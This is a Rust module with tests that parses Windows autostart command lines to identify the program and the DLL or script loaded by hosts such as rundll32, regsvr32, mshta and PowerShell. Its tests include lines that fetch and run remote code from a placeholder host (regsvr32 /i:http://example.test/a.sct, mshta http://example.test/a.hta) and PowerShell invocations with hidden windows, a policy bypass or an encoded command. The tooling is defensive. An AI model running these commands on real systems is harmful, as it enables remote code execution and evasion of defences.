//! What a Windows command line starts: the program, its arguments, and the file a host program
//! (rundll32, regsvr32, mshta, the script hosts, PowerShell, cmd, java, msiexec) runs for it.
//!
//! Autostart entries (Run values, service ImagePaths, task actions, shortcut targets) name a
//! program, but the payload is often the DLL or script handed to a signed Windows binary; this
//! module finds both without touching the file system.

/// The program a command line starts, and what it loads.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Launch {
    /// As written, quotes removed, e.g. `C:\Windows\System32\rundll32.exe` or
    /// `%SystemRoot%\system32\svchost.exe`.
    pub program: String,
    /// The rest of the line, trimmed.
    pub arguments: String,
    /// The file a host program runs: the rundll32 DLL (before the comma), the regsvr32 DLL,
    /// the mshta URL or file, the wscript/cscript script, the PowerShell `-File`, the program
    /// of `cmd /c` (through `start` and `call`), the `java -jar` archive, the msiexec package.
    pub loads: Option<String>,
    /// The service group of `svchost.exe -k GROUP`.
    pub svchost_group: Option<String>,
}

/// Extensions that end a program path in the classic unquoted-path rule.
const EXECUTABLE_EXTENSIONS: &[&str] = &[
    ".exe", ".com", ".bat", ".cmd", ".dll", ".sys", ".scr", ".cpl", ".ps1", ".vbs", ".js",
];

/// Parses a command line; `None` when it names no program.
pub fn parse(command_line: &str) -> Option<Launch> {
    let (program, arguments) = split_program(command_line.trim());
    if program.is_empty() {
        return None;
    }
    let host = base_name(program);
    let loads = loaded_file(&host, arguments);
    let svchost_group = if host == "svchost" {
        value_after(&split_arguments(arguments), |name| {
            name.eq_ignore_ascii_case("-k") || name.eq_ignore_ascii_case("/k")
        })
    } else {
        None
    };
    Some(Launch {
        program: program.to_string(),
        arguments: arguments.to_string(),
        loads,
        svchost_group,
    })
}

/// Expands `%VAR%` references with `lookup` (case-insensitive names); unknown ones stay as they
/// are. `lookup` receives the name as written and should compare names ignoring ASCII case, as
/// Windows does. An unknown `%NAME%` is kept whole and scanning resumes after its closing `%`.
pub fn expand(text: &str, lookup: &dyn Fn(&str) -> Option<String>) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(open) = rest.find('%') {
        out.push_str(&rest[..open]);
        let after = &rest[open + 1..];
        let Some(close) = after.find('%') else {
            out.push_str(&rest[open..]);
            return out;
        };
        let name = &after[..close];
        match Some(name).filter(|n| !n.is_empty()).and_then(lookup) {
            Some(value) => out.push_str(&value),
            None => out.push_str(&rest[open..open + close + 2]),
        }
        rest = &after[close + 1..];
    }
    out.push_str(rest);
    out
}

/// Rewrites the NT path forms found in service ImagePaths into Win32 form:
/// `\SystemRoot\` becomes `%SystemRoot%\`, `\??\C:\` and `\\?\C:\` become `C:\`,
/// `\??\UNC\server\share` becomes `\\server\share`, and a path relative to the Windows
/// directory (`system32\...`, `SysWOW64\...`, as the kernel resolves driver paths) gets
/// `%SystemRoot%\` in front.
pub fn win32_path(path: &str) -> String {
    if let Some(rest) = strip_prefix_ignore_case(path, r"\SystemRoot\") {
        return format!(r"%SystemRoot%\{rest}");
    }
    for unc in [r"\??\UNC\", r"\\?\UNC\"] {
        if let Some(rest) = strip_prefix_ignore_case(path, unc) {
            return format!(r"\\{rest}");
        }
    }
    for device in [r"\??\", r"\\?\"] {
        // Only a drive path loses the prefix; `\??\Volume{...}` has no Win32 drive form.
        if let Some(rest) = path.strip_prefix(device)
            && rest.get(1..2) == Some(":")
            && rest.starts_with(|c: char| c.is_ascii_alphabetic())
        {
            return rest.to_string();
        }
    }
    if ["system32\\", "syswow64\\"]
        .iter()
        .any(|dir| strip_prefix_ignore_case(path, dir).is_some())
    {
        return format!(r"%SystemRoot%\{path}");
    }
    path.to_string()
}

fn strip_prefix_ignore_case<'a>(text: &'a str, prefix: &str) -> Option<&'a str> {
    let head = text.get(..prefix.len())?;
    head.eq_ignore_ascii_case(prefix)
        .then(|| text.get(prefix.len()..))
        .flatten()
}

/// Splits a trimmed command line into the program (quotes removed) and the trimmed rest.
///
/// A quoted first token is the program. Unquoted, a path with spaces is resolved by the classic
/// CreateProcess rule without its file-system probes: the shortest run of whitespace-separated
/// tokens ending in an executable extension, extended only while the first token is a path and
/// the next token cannot start an argument (a switch, a quote, another absolute path); failing
/// that, the first token.
fn split_program(line: &str) -> (&str, &str) {
    if let Some(quoted) = line.strip_prefix('"') {
        // An unterminated quote runs to the end of the line, as CreateProcess reads it.
        return match quoted.split_once('"') {
            Some((program, rest)) => (program, rest.trim()),
            None => (quoted, ""),
        };
    }
    let is_space = |c: char| c == ' ' || c == '\t';
    let first_end = line.find(is_space).unwrap_or(line.len());
    let extendable = line[..first_end].contains('\\');
    let mut end = first_end;
    loop {
        let candidate = &line[..end];
        if has_executable_extension(candidate) {
            return (candidate, line[end..].trim());
        }
        if !extendable || end == line.len() {
            break;
        }
        let next_start = end + (line[end..].len() - line[end..].trim_start().len());
        let next = &line[next_start..];
        if starts_argument(next) {
            break;
        }
        end = next
            .find(is_space)
            .map_or(line.len(), |offset| next_start + offset);
    }
    (&line[..first_end], line[first_end..].trim())
}

/// Looks only at the end of `path`, so trying every prefix of a long line stays linear.
fn has_executable_extension(path: &str) -> bool {
    let bytes = path.as_bytes();
    EXECUTABLE_EXTENSIONS.iter().any(|ext| {
        bytes
            .len()
            .checked_sub(ext.len())
            .and_then(|start| bytes.get(start..))
            .is_some_and(|tail| tail.eq_ignore_ascii_case(ext.as_bytes()))
    })
}

/// Whether a token after the first one begins an argument rather than continuing a path.
fn starts_argument(token: &str) -> bool {
    let first_word = token.split([' ', '\t']).next().unwrap_or_default();
    token.starts_with(['/', '"', '%', '\\'])
        || (first_word.starts_with('-') && first_word.len() > 1)
        || first_word.contains(':')
}

/// The program's file name, lower-cased, without `.exe`: what decides how it is hosted.
fn base_name(program: &str) -> String {
    let name = program.rsplit(['\\', '/']).next().unwrap_or(program);
    let lower = name.to_ascii_lowercase();
    match lower.strip_suffix(".exe") {
        Some(stem) => stem.to_string(),
        None => lower,
    }
}

/// One argument of a command line.
struct Argument {
    /// The argument with its quotes removed.
    value: String,
    /// Whether it began with a quote (`start` takes such a first argument as a window title).
    quoted: bool,
    /// Byte offset of its first character in the arguments string.
    start: usize,
}

/// Splits arguments at whitespace outside double quotes and drops the quotes, like
/// CommandLineToArgvW without its backslash rules: host programs (rundll32, msiexec) parse their
/// own lines, and Windows paths end in backslashes far more often than they escape quotes.
fn split_arguments(text: &str) -> Vec<Argument> {
    let mut arguments = Vec::new();
    let mut current: Option<Argument> = None;
    let mut in_quotes = false;
    for (index, c) in text.char_indices() {
        if !in_quotes && (c == ' ' || c == '\t') {
            arguments.extend(current.take());
            continue;
        }
        let argument = current.get_or_insert_with(|| Argument {
            value: String::new(),
            quoted: c == '"',
            start: index,
        });
        if c == '"' {
            in_quotes = !in_quotes;
        } else {
            argument.value.push(c);
        }
    }
    arguments.extend(current);
    arguments
}

fn is_switch(value: &str) -> bool {
    value.starts_with(['/', '-'])
}

fn first_non_switch(arguments: &[Argument]) -> Option<String> {
    arguments
        .iter()
        .find(|a| a.quoted || !is_switch(&a.value))
        .map(|a| a.value.clone())
}

/// The value of the first argument after one that `is_flag` accepts.
fn value_after(arguments: &[Argument], is_flag: impl Fn(&str) -> bool) -> Option<String> {
    let position = arguments.iter().position(|a| is_flag(&a.value))?;
    arguments
        .get(position + 1)
        .map(|a| a.value.clone())
        .filter(|v| !v.is_empty())
}

/// Whether `argument` is `-NAME` or `/NAME` with NAME a non-empty prefix of `parameter` (at
/// least `shortest` characters long), the way PowerShell accepts abbreviated parameters.
fn abbreviates(argument: &str, parameter: &str, shortest: usize) -> bool {
    let name = argument
        .strip_prefix('-')
        .or_else(|| argument.strip_prefix('/'))
        .unwrap_or_default()
        .to_ascii_lowercase();
    name.len() >= shortest && parameter.starts_with(&name)
}

fn loaded_file(host: &str, arguments: &str) -> Option<String> {
    let args = split_arguments(arguments);
    let loads = match host {
        "rundll32" => first_non_switch(&args).map(|entry| match entry.split_once(',') {
            Some((dll, _)) => dll.trim_end().to_string(),
            None => entry,
        }),
        "regsvr32" | "mshta" | "wscript" | "cscript" => first_non_switch(&args),
        "powershell" | "pwsh" => {
            // Everything after -Command is the command itself, so only a -File before it counts.
            let flags: Vec<&Argument> = args
                .iter()
                .take_while(|a| !abbreviates(&a.value, "command", 1))
                .collect();
            let position = flags
                .iter()
                .position(|a| abbreviates(&a.value, "file", 1))?;
            flags.get(position + 1).map(|a| a.value.clone())
        }
        "cmd" => {
            let switch = args.iter().find(|a| {
                !a.quoted
                    && ["/c", "/k", "/r"]
                        .iter()
                        .any(|s| a.value.eq_ignore_ascii_case(s))
            })?;
            // The switch is two unquoted characters; the command is everything after it.
            let command = arguments.get(switch.start + 2..)?.trim();
            cmd_program(command)
        }
        "java" | "javaw" => value_after(&args, |v| v == "-jar"),
        "msiexec" => value_after(&args, |v| {
            ["/i", "-i", "/package", "-package", "/y", "-y"]
                .iter()
                .any(|flag| v.eq_ignore_ascii_case(flag))
        }),
        _ => None,
    };
    loads.filter(|file| !file.is_empty())
}

/// The program `cmd /c COMMAND` runs, looking through the `start` and `call` built-ins.
fn cmd_program(command: &str) -> Option<String> {
    let command = strip_cmd_quotes(command);
    let (program, rest) = split_program(command);
    match base_name(program).as_str() {
        "start" => start_program(rest),
        "call" => Some(split_program(rest).0.to_string()),
        _ => Some(program.to_string()),
    }
}

/// cmd drops the outer quotes of a command wrapped whole in them (`"C:\x\y.bat arg"`,
/// `""C:\a b\x.exe" arg"`); a command that merely starts and ends with quoted tokens
/// (`"C:\a b\x.exe" "arg"`) is left alone, which is what its author meant.
fn strip_cmd_quotes(command: &str) -> &str {
    let Some(inner) = command
        .strip_prefix('"')
        .and_then(|rest| rest.strip_suffix('"'))
    else {
        return command;
    };
    if inner.starts_with('"') || !inner.contains('"') {
        inner
    } else {
        command
    }
}

/// The program of `start ["title"] [/switches] PROGRAM args`.
fn start_program(arguments: &str) -> Option<String> {
    let args = split_arguments(arguments);
    // The first quoted argument is the window title, never the program.
    let mut index = usize::from(args.first().is_some_and(|a| a.quoted));
    while let Some(arg) = args.get(index) {
        if arg.quoted || !arg.value.starts_with('/') {
            return Some(split_program(arguments.get(arg.start..)?).0.to_string())
                .filter(|p| !p.is_empty());
        }
        let switch = arg.value.to_ascii_lowercase();
        // These take their value as the next argument.
        index += if ["/d", "/affinity", "/node"].contains(&switch.as_str()) {
            2
        } else {
            1
        };
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn launch(line: &str) -> Launch {
        parse(line).unwrap_or_else(|| panic!("no program in {line:?}"))
    }

    fn check(line: &str, program: &str, arguments: &str, loads: Option<&str>) {
        let got = launch(line);
        assert_eq!(got.program, program, "program of {line:?}");
        assert_eq!(got.arguments, arguments, "arguments of {line:?}");
        assert_eq!(got.loads.as_deref(), loads, "loads of {line:?}");
    }

    #[test]
    fn service_image_paths() {
        let svchost = launch(r"%SystemRoot%\System32\svchost.exe -k netsvcs -p");
        assert_eq!(svchost.program, r"%SystemRoot%\System32\svchost.exe");
        assert_eq!(svchost.arguments, "-k netsvcs -p");
        assert_eq!(svchost.svchost_group.as_deref(), Some("netsvcs"));
        assert_eq!(svchost.loads, None);

        check(
            r#""C:\Program Files\Vendor\svc.exe" /run"#,
            r"C:\Program Files\Vendor\svc.exe",
            "/run",
            None,
        );
        check(
            r"\SystemRoot\System32\drivers\x.sys",
            r"\SystemRoot\System32\drivers\x.sys",
            "",
            None,
        );
        check(
            r"system32\DRIVERS\y.sys",
            r"system32\DRIVERS\y.sys",
            "",
            None,
        );
        assert_eq!(
            launch(r"C:\WINDOWS\system32\SVCHOST.EXE -K LocalServiceNetworkRestricted")
                .svchost_group
                .as_deref(),
            Some("LocalServiceNetworkRestricted")
        );
    }

    #[test]
    fn run_values() {
        check(
            r"rundll32.exe C:\ProgramData\Microsoft\MSDN\msdn.bin,Start 7486513879852",
            "rundll32.exe",
            r"C:\ProgramData\Microsoft\MSDN\msdn.bin,Start 7486513879852",
            Some(r"C:\ProgramData\Microsoft\MSDN\msdn.bin"),
        );
        check(
            r#""C:\Users\a\AppData\Local\slack\slack.exe" --process-start-args --startup"#,
            r"C:\Users\a\AppData\Local\slack\slack.exe",
            "--process-start-args --startup",
            None,
        );
        check(
            r"%windir%\system32\SecurityHealthSystray.exe",
            r"%windir%\system32\SecurityHealthSystray.exe",
            "",
            None,
        );
        check(
            r#"C:\Windows\System32\RUNDLL32.EXE "C:\Program Files\X Y\hook.dll",Install"#,
            r"C:\Windows\System32\RUNDLL32.EXE",
            r#""C:\Program Files\X Y\hook.dll",Install"#,
            Some(r"C:\Program Files\X Y\hook.dll"),
        );
    }

    #[test]
    fn unquoted_paths_with_spaces() {
        check(
            r"C:\Program Files\a b\x.exe args",
            r"C:\Program Files\a b\x.exe",
            "args",
            None,
        );
        check(
            r"C:\Program Files (x86)\Tool\run.bat",
            r"C:\Program Files (x86)\Tool\run.bat",
            "",
            None,
        );
        // No extension anywhere: the first token, as CreateProcess tries first.
        check(r"C:\tools\agent -svc", r"C:\tools\agent", "-svc", None);
        // A switch or another absolute path ends the program even if an extension follows.
        check(
            r"C:\tools\launcher /x C:\x\run.bat",
            r"C:\tools\launcher",
            r"/x C:\x\run.bat",
            None,
        );
        check(
            r"C:\tools\launcher C:\x\run.bat",
            r"C:\tools\launcher",
            r"C:\x\run.bat",
            None,
        );
        // A bare program name is never extended into its arguments.
        check("notepad a b.txt", "notepad", "a b.txt", None);
        check("\t calc.exe \t", "calc.exe", "", None);
    }

    #[test]
    fn cmd_commands() {
        check(
            r#"cmd.exe /c start "" "C:\x\y.exe""#,
            "cmd.exe",
            r#"/c start "" "C:\x\y.exe""#,
            Some(r"C:\x\y.exe"),
        );
        check(
            r#"C:\Windows\system32\cmd.exe /Q /C "C:\Users\a\run.bat arg""#,
            r"C:\Windows\system32\cmd.exe",
            r#"/Q /C "C:\Users\a\run.bat arg""#,
            Some(r"C:\Users\a\run.bat"),
        );
        let nested = launch(r#"cmd /c ""C:\Program Files\App\app.exe" --hidden""#);
        assert_eq!(
            nested.loads.as_deref(),
            Some(r"C:\Program Files\App\app.exe")
        );
        let start = launch(r"cmd /k start /min /d C:\w C:\w\tool.exe -q");
        assert_eq!(start.loads.as_deref(), Some(r"C:\w\tool.exe"));
        let call = launch(r"cmd /c call C:\s\job.cmd now");
        assert_eq!(call.loads.as_deref(), Some(r"C:\s\job.cmd"));
        let chained = launch(r#"cmd /c "C:\a b\x.exe" "arg""#);
        assert_eq!(chained.loads.as_deref(), Some(r"C:\a b\x.exe"));
        assert_eq!(launch("cmd /c").loads, None);
        assert_eq!(launch("cmd.exe").loads, None);
    }

    #[test]
    fn script_and_package_hosts() {
        let cases = [
            (
                r"powershell -w hidden -File C:\t\a.ps1",
                Some(r"C:\t\a.ps1"),
            ),
            (
                r#"powershell.exe -NoP -ExecutionPolicy Bypass -f "C:\a b\s.ps1" -x 1"#,
                Some(r"C:\a b\s.ps1"),
            ),
            (r"pwsh -Command & C:\t\a.ps1 -File x", None),
            (r"powershell -enc SQBFAFgA", None),
            (
                r"regsvr32 /s C:\Users\Public\x.dll",
                Some(r"C:\Users\Public\x.dll"),
            ),
            (
                r"regsvr32.exe /s /n /u /i:http://example.test/a.sct scrobj.dll",
                Some("scrobj.dll"),
            ),
            (
                r"mshta.exe http://example.test/a.hta",
                Some("http://example.test/a.hta"),
            ),
            (
                r#"MSHTA "C:\ProgramData\x.hta""#,
                Some(r"C:\ProgramData\x.hta"),
            ),
            (
                r"wscript.exe //B //E:jscript C:\Users\a\AppData\upd.js arg",
                Some(r"C:\Users\a\AppData\upd.js"),
            ),
            (
                r"cscript /nologo C:\s\inventory.vbs",
                Some(r"C:\s\inventory.vbs"),
            ),
            (
                r#""C:\Program Files\Java\bin\javaw.exe" -Xmx64m -jar C:\u\tray.jar"#,
                Some(r"C:\u\tray.jar"),
            ),
            (
                r"msiexec /q /I C:\Windows\Temp\upd.msi",
                Some(r"C:\Windows\Temp\upd.msi"),
            ),
            (r"msiexec.exe /y C:\t\reg.dll", Some(r"C:\t\reg.dll")),
            (r"rundll32.exe", None),
            (r"C:\tools\other.exe C:\x\y.dll", None),
        ];
        for (line, loads) in cases {
            assert_eq!(launch(line).loads.as_deref(), loads, "loads of {line:?}");
        }
    }

    #[test]
    fn empty_and_odd_lines() {
        assert_eq!(parse(""), None);
        assert_eq!(parse("   \t "), None);
        assert_eq!(parse(r#""" x"#), None);
        check(r#""C:\no end quote.exe"#, r"C:\no end quote.exe", "", None);
        check(r#""C:\x.exe"arg"#, r"C:\x.exe", "arg", None);
        // Multi-byte characters never split.
        check("C:\\Données\\é è.exe ü", "C:\\Données\\é è.exe", "ü", None);
    }

    fn environment(name: &str) -> Option<String> {
        [
            ("SystemRoot", r"C:\Windows"),
            ("windir", r"C:\Windows"),
            ("ProgramData", r"C:\ProgramData"),
        ]
        .iter()
        .find(|(known, _)| known.eq_ignore_ascii_case(name))
        .map(|(_, value)| value.to_string())
    }

    #[test]
    fn expands_known_variables_and_keeps_the_rest() {
        let cases = [
            (
                r"%SystemRoot%\System32\svchost.exe",
                r"C:\Windows\System32\svchost.exe",
            ),
            (
                r"%WINDIR%\x;%programdata%\y",
                r"C:\Windows\x;C:\ProgramData\y",
            ),
            (r"%nope%\a.exe", r"%nope%\a.exe"),
            (r"%nope%windir%", r"%nope%windir%"),
            ("100% sure", "100% sure"),
            ("%%", "%%"),
            ("%", "%"),
            ("%windir%%windir%", r"C:\WindowsC:\Windows"),
            ("é%windir%é", r"éC:\Windowsé"),
        ];
        for (text, expanded) in cases {
            assert_eq!(expand(text, &environment), expanded, "{text:?}");
        }
    }

    #[test]
    fn nt_paths_become_win32_paths() {
        let cases = [
            (
                r"\SystemRoot\System32\drivers\x.sys",
                r"%SystemRoot%\System32\drivers\x.sys",
            ),
            (
                r"\systemroot\system32\ntoskrnl.exe",
                r"%SystemRoot%\system32\ntoskrnl.exe",
            ),
            (r"\??\C:\Windows\x.sys", r"C:\Windows\x.sys"),
            (r"\\?\C:\Long\path.exe", r"C:\Long\path.exe"),
            (r"\??\Volume{0b1c}\x.sys", r"\??\Volume{0b1c}\x.sys"),
            (r"\??\UNC\srv\share\d.sys", r"\\srv\share\d.sys"),
            (
                r"system32\DRIVERS\y.sys",
                r"%SystemRoot%\system32\DRIVERS\y.sys",
            ),
            (r"SysWOW64\z.dll", r"%SystemRoot%\SysWOW64\z.dll"),
            (r"C:\Windows\x.exe", r"C:\Windows\x.exe"),
            (r"%windir%\x.exe", r"%windir%\x.exe"),
            (r"drivers\w.sys", r"drivers\w.sys"),
            ("", ""),
            ("é", "é"),
        ];
        for (path, win32) in cases {
            assert_eq!(win32_path(path), win32, "{path:?}");
        }
    }

    #[test]
    fn long_and_hostile_lines_end() {
        let nested = "cmd /c ".repeat(100_000);
        assert_eq!(launch(&nested).loads.as_deref(), Some("cmd"));
        let spaces = format!(r"C:\{}", "a ".repeat(100_000));
        assert_eq!(launch(&spaces).program, r"C:\a");
        let quotes = "\"".repeat(10_001);
        let _ = parse(&quotes);
        let percent = "%".repeat(100_001);
        assert_eq!(expand(&percent, &environment), percent);
    }
}
